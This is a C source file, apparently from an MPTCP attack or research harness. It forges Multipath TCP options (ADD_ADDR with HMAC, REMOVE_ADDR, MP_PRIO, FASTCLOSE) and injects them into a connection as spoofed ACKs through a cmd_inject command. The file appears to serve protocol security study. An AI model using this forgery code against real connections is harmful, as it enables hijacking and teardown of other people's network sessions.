// SPDX-License-Identifier: GPL-2.0-only
/*
 * Forged options on the first subflow, in an ACK that the other side has sent
 * already as far as TCP can tell
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

/*
 * What is XORed onto the field of RFC 8684
 *
 * field=real	 nothing
 * field=told	 the mask that the attacker was told (attack_named.c, attack_quote.c)
 * field=seen	 that of the one which passed last (eavesdrop.c)
 * field=masked	 that of an external key of the attacker's, key=HEX
 */
static uint64_t choose_mask(uint64_t told, uint64_t seen, uint64_t own)
{
	const char *how = arg("field", "real");

	return !strcmp(how, "told")   ? told :
	       !strcmp(how, "seen")   ? seen :
	       !strcmp(how, "masked") ? own :
					0;
}

/*
 * Sent by @from; its address if it is ADD_ADDR is addr= and addr_port=. FASTCLOSE has the
 * key of who is to take it. Who was told a FASTCLOSE sends it as it was.
 */
static uint8_t *put_forged(uint8_t *at, const struct connection *connection,
			   enum side from)
{
	struct endpoint address = { arg_addr("addr", "0.0.0.0"),
				    htons((uint16_t)arg_number("addr_port",
							       "0")) };
	uint8_t id = (uint8_t)arg_number("id", "66");
	uint64_t key = connection->keys[!from];

	*at++ = MPTCP_KIND;
	if (arg_is("what", "fastclose", "")) {
		*at++ = FASTCLOSE_LEN;
		*at++ = MP_FASTCLOSE << 4;
		*at++ = 0;
		return put64(at, key ^ choose_mask(told_fastclose ^ key,
						   seen_masks.fastclose,
						   own_fastclose_mask(
							   connection, from)));
	}
	if (arg_is("what", "remove-addr", "")) {
		*at++ = 4;
		*at++ = MP_REMOVE_ADDR << 4;
		*at++ = id;
		return at;
	}
	if (arg_is("what", "prio", "")) {
		*at++ = 3;
		*at++ = MP_PRIO << 4 | 1; /* backup */
		return at;
	}
	*at++ = address.port ? 18 : 16;
	*at++ = MP_ADD_ADDR << 4;
	*at++ = id;
	memcpy(at, &address.addr, 4);
	at += 4;
	if (address.port)
		at = put16(at, ntohs(address.port));
	return put64(at, add_addr_hmac(connection->keys[from],
				       connection->keys[!from], id, &address,
				       address.port) ^
				 choose_mask(told_add_addr, seen_masks.add_addr,
					     own_add_addr_mask(connection, from,
							       id, &address)));
}

/*
 * The next packet to one end of a connection, with this option, as if the other end had
 * sent it; returns the link that it is to be sent on
 */
const struct link *make_next(struct frame *frame,
			     const struct connection *connection, enum side to,
			     const uint8_t *option, unsigned int len)
{
	const struct sender *sender = &connection->senders[!to];
	struct plan plan = { .flags = TH_ACK };
	uint8_t *at = plan.options;

	if (sender->timestamps)
		at = put_timestamps(at, sender->tsval, sender->tsecr);
	memcpy(at, option, len);
	plan.options_len = (unsigned int)(at - plan.options) + len;
	plan.from_mac = links[connection->path][!to].peer_mac;
	plan.to_mac = links[connection->path][to].peer_mac;
	plan.from = connection->ends[!to];
	plan.to = connection->ends[to];
	plan.seq = sender->next;
	plan.ack = sender->ack;
	make_segment(frame, &plan);
	return &links[connection->path][to];
}

/* The same, with the option that the words of the command say */
const struct link *make_forged(struct frame *frame,
			       const struct connection *connection,
			       enum side to)
{
	uint8_t option[OPTIONS_MAX];
	const uint8_t *end = put_forged(option, connection, !to);

	return make_next(frame, connection, to, option,
			 (unsigned int)(end - option));
}

bool cmd_inject(void)
{
	const struct connection *connection = arg_connection("conn");
	enum side to = arg_is("to", "server", "client") ? SERVER : CLIENT;
	const struct link *link;
	struct frame frame;

	if (!connection)
		return false;
	link = make_forged(&frame, connection, to);
	send_frame(link, &frame);
	printf(" sent=1");
	return true;
}
